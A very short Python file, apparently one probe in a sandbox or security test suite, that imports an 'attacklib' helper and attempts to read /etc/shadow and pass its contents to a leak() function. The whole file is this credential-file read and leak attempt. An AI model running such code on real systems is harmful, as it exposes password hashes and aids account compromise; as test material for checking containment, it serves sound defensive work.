"""secrets: read /etc/shadow."""

from attacklib import *

attempt("shadow", lambda: leak(open("/etc/shadow").read()))
